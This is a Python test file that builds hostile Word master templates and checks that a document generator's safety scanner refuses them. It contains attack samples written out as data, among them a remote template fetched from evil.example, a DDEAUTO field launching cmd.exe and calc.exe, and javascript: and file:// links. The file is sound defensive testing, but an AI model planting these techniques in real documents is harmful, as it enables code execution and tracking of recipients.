"""Issue 13 point 10: a master carries layout, never code or a call home.

Hostile masters are made here from the built-in one with zipfile and lxml:
a remote attached template (Word template injection), an external tracking
image, a macro project, ActiveX, embedded and linked OLE objects, altChunk,
DDE / DDEAUTO / INCLUDETEXT / INCLUDEPICTURE / LINK fields (simple and split
across runs, any case) and hyperlinks other than http(s), mailto and tel.
`templates check` and `build` refuse each one (exit 1, naming the master and
the part, with a fix); every DOCX written is checked again on its way out."""

from __future__ import annotations

import io
import zipfile

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from helpers import ROOT, run_cli
from lxml import etree

from generator.docx.package import save_docx
from generator.docx.safety import hazards
from generator.errors import TemplateProblem

MASTER = ROOT / "templates" / "masters" / "document.docx"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"


def _entries(path=MASTER) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist() if not info.is_dir()}


def _zip(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def _add_rel(entries, rels_name: str, rel_id: str, kind: str, target: str, external: bool = True) -> None:
    if rels_name in entries:
        root = etree.fromstring(entries[rels_name])
    else:
        root = etree.Element(f"{{{PKG_REL}}}Relationships", nsmap={None: PKG_REL})
    rel = etree.SubElement(root, f"{{{PKG_REL}}}Relationship")
    rel.set("Id", rel_id)
    rel.set("Type", f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}")
    rel.set("Target", target)
    if external:
        rel.set("TargetMode", "External")
    entries[rels_name] = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)


def _add_content_type(entries, part: str, content_type: str) -> None:
    root = etree.fromstring(entries["[Content_Types].xml"])
    override = etree.SubElement(root, f"{{{CT}}}Override")
    override.set("PartName", part)
    override.set("ContentType", content_type)
    entries["[Content_Types].xml"] = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)


def _first_paragraph(entries, part: str):
    root = etree.fromstring(entries[part])
    return root, next(root.iter(f"{{{W}}}p"))


def _append_to_first_paragraph(entries, part: str, xml: str) -> None:
    root, paragraph = _first_paragraph(entries, part)
    wrapper = etree.fromstring(f'<w:wrap xmlns:w="{W}" xmlns:r="{R}" xmlns:o="urn:schemas-microsoft-com:office:office" '
                               f'xmlns:v="urn:schemas-microsoft-com:vml">{xml}</w:wrap>')
    for child in list(wrapper):
        paragraph.append(child)
    entries[part] = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)


def _header(entries) -> str:
    return sorted(n for n in entries if n.startswith("word/header") and n.endswith(".xml"))[0]


def _complex_field(*pieces: str) -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            '<w:r><w:t>result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')


def remote_template(entries):
    _add_rel(entries, "word/_rels/settings.xml.rels", "rIdT1", "attachedTemplate", "http://evil.example/t.dotm")
    root = etree.fromstring(entries["word/settings.xml"])
    attached = etree.Element(f"{{{W}}}attachedTemplate")
    attached.set(f"{{{R}}}id", "rIdT1")
    root.insert(0, attached)
    entries["word/settings.xml"] = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)


def tracking_image(entries):
    _add_rel(entries, "word/_rels/document.xml.rels", "rIdX1", "image", "https://tracker.example/pixel.png")


def macro_project(entries):
    entries["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + b"\x00" * 60
    _add_content_type(entries, "/word/vbaProject.bin", "application/vnd.ms-office.vbaProject")


def macro_enabled_type(entries):
    root = etree.fromstring(entries["[Content_Types].xml"])
    for override in root:
        if override.get("PartName") == "/word/document.xml":
            override.set("ContentType", "application/vnd.ms-word.document.macroEnabled.main+xml")
    entries["[Content_Types].xml"] = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)


def activex(entries):
    entries["word/activeX/activeX1.xml"] = b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    _add_rel(entries, "word/_rels/document.xml.rels", "rIdA1", "control", "activeX/activeX1.xml", external=False)


def embedded_ole(entries):
    entries["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0" + b"\x00" * 60
    _add_rel(entries, "word/_rels/document.xml.rels", "rIdO1", "oleObject", "embeddings/oleObject1.bin", external=False)


def linked_ole(entries):
    _add_rel(entries, "word/_rels/document.xml.rels", "rIdO2", "oleObject", "file://server/share/x.xlsx")
    _append_to_first_paragraph(entries, "word/document.xml",
                               '<w:r><w:object><o:OLEObject Type="Link" ProgID="Excel.Sheet.12" r:id="rIdO2"/>'
                               '</w:object></w:r>')


def alt_chunk(entries):
    entries["word/afchunk.htm"] = b"<html><body>imported</body></html>"
    _add_rel(entries, "word/_rels/document.xml.rels", "rIdC1", "aFChunk", "afchunk.htm", external=False)
    root = etree.fromstring(entries["word/document.xml"])
    body = root.find(f"{{{W}}}body")
    chunk = etree.Element(f"{{{W}}}altChunk")
    chunk.set(f"{{{R}}}id", "rIdC1")
    body.insert(0, chunk)
    entries["word/document.xml"] = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)


def _simple_field(instruction):
    def change(entries):
        _append_to_first_paragraph(entries, _header(entries),
                                   f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple>')
    return change


def _split_field(*pieces):
    def change(entries):
        _append_to_first_paragraph(entries, _header(entries), _complex_field(*pieces))
    return change


def hyperlink(target):
    def change(entries):
        _add_rel(entries, "word/_rels/document.xml.rels", "rIdH1", "hyperlink", target)
        _append_to_first_paragraph(entries, "word/document.xml",
                                   '<w:hyperlink r:id="rIdH1"><w:r><w:t>link</w:t></w:r></w:hyperlink>')
    return change


CASES = [
    (remote_template, "word/_rels/settings.xml.rels", "attached template"),
    (tracking_image, "word/_rels/document.xml.rels", "https://tracker.example/pixel.png"),
    (macro_project, "word/vbaProject.bin", "macro"),
    (macro_enabled_type, "[Content_Types].xml", "macro"),
    (activex, "word/activeX/activeX1.xml", "ActiveX"),
    (embedded_ole, "word/embeddings/oleObject1.bin", "embedded object"),
    (linked_ole, "word/_rels/document.xml.rels", "linked object"),
    (alt_chunk, "word/_rels/document.xml.rels", "altChunk"),
    (_simple_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc.exe&quot;'), "word/header", "DDEAUTO field"),
    (_simple_field("DDE excel sheet1 r1c1"), "word/header", "DDE field"),
    (_split_field("DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), "word/header", "DDEAUTO field"),
    (_split_field(' includepicture "http://tracker.example/p.png" \\d'), "word/header", "INCLUDEPICTURE field"),
    (_split_field('INCLUDETEXT "\\\\\\\\server\\\\share\\\\x.docx"'), "word/header", "INCLUDETEXT field"),
    (_split_field('LINK Excel.Sheet.8 "c:\\\\x.xls" "Sheet1!R1C1" \\a'), "word/header", "LINK field"),
    (_split_field('HYPERLINK "file://server/share/x"'), "word/header", "HYPERLINK field to 'file://server/share/x'"),
    (hyperlink("javascript:alert(1)"), "word/_rels/document.xml.rels", "hyperlink to 'javascript:alert(1)'"),
    (hyperlink("file://server/share/secret.docx"), "word/_rels/document.xml.rels", "hyperlink to 'file://"),
]
IDS = [case[0].__name__ if case[0].__name__ != "change" else case[2] for case in CASES]


@pytest.mark.parametrize("change, part, words", CASES, ids=IDS)
def test_a_hostile_master_is_found(change, part, words):
    entries = _entries()
    change(entries)
    found = hazards(entries)
    assert any(h.part.startswith(part) and words in h.what for h in found), found


def test_safe_masters_and_links_pass():
    assert hazards(_entries()) == []
    for name in ("letter.docx", "form.docx"):
        assert hazards(_entries(ROOT / "templates" / "masters" / name)) == []
    for target in ("https://www.example.org/x", "http://a.example", "mailto:dsl@oakfield.example", "tel:+441164960001"):
        entries = _entries()
        hyperlink(target)(entries)
        assert hazards(entries) == [], target
    entries = _entries()
    _split_field(' PAGE ')(entries)
    _simple_field("NUMPAGES")(entries)
    _split_field('HYPERLINK "https://www.example.org/LINK"')(entries)
    assert hazards(entries) == []


@pytest.fixture
def custom(profiles_copy):
    profile = profiles_copy / "example.yaml"
    profile.write_text(profile.read_text(encoding="utf-8") + "\ntemplates:\n  dir: custom\n", encoding="utf-8")
    (profiles_copy / "custom" / "masters").mkdir(parents=True)
    return profile


# the four of the issue, through the real CLI (the rest are covered in-process above)
@pytest.mark.parametrize("change, part, words", [CASES[0], CASES[1], CASES[2], CASES[10]],
                         ids=["remote-template", "tracking-image", "macros", "ddeauto-in-header"])
def test_build_and_templates_check_refuse_the_master(custom, tmp_path, change, part, words):
    entries = _entries()
    change(entries)
    master = custom.parent / "custom" / "masters" / "document.docx"
    master.write_bytes(_zip(entries))

    check = run_cli("templates", "check", str(master.parent.parent))
    assert check.returncode == 1, check.stdout + check.stderr
    assert str(master) in check.stderr and part in check.stderr and words in check.stderr, check.stderr

    result = run_cli("build", str(custom), "-o", "out", "--no-handbook", cwd=tmp_path, timeout=180)
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    assert str(master) in result.stderr and part in result.stderr and words in result.stderr, result.stderr
    assert "fix:" in result.stderr
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


@pytest.mark.parametrize("kind, target, words", [
    (RT.IMAGE, "https://tracker.example/pixel.png", "outside the file"),
    (RT.HYPERLINK, "javascript:alert(1)", "hyperlink to 'javascript:alert(1)'"),
])
def test_every_docx_written_is_checked_on_its_way_out(kind, target, words):
    document = docx.Document(str(MASTER))
    document.part.relate_to(target, kind, is_external=True)
    with pytest.raises(TemplateProblem, match="word/_rels/document.xml.rels holds") as raised:
        save_docx(document, "safeguarding-policy.docx")
    assert words in str(raised.value) and str(raised.value).startswith("safeguarding-policy.docx: ")


def test_a_letter_package_is_checked(tmp_path):
    from generator.documents.letters.package import LetterPackage

    entries = _entries(ROOT / "templates" / "masters" / "letter.docx")
    remote_template(entries)
    with pytest.raises(TemplateProblem, match="attached template"):
        LetterPackage(_zip(entries), "letters/cp-plan-closure")
